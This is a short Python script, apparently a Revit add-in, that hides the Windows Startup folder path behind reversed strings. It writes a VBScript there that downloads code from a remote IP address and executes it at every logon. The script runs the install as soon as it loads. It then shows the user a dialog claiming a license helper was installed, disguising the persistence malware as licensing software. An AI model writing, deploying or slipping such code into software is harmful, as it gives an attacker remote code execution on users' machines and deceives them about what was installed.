# technique: drops a VBScript downloader into the Startup folder (path built from reversed strings) for persistence
import os
from Autodesk.Revit.UI import TaskDialog

_r = lambda s: s[::-1]
STARTUP = os.path.join(os.environ[_r("ATADPPA")],
                       _r("tfosorciM"), _r("swodniW"), _r("unem tratS"),
                       _r("smargorP"), _r("putratS"))

VBS = '''Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://203.0.113.8/s.txt", False
x.Send
Execute x.responseText
'''


def install_helper():
    dst = os.path.join(STARTUP, "RevitLicenseHelper.vbs")
    with open(dst, "w") as fh:
        fh.write(VBS)
    return dst


install_helper()
TaskDialog.Show("Licensing", "License helper installed")
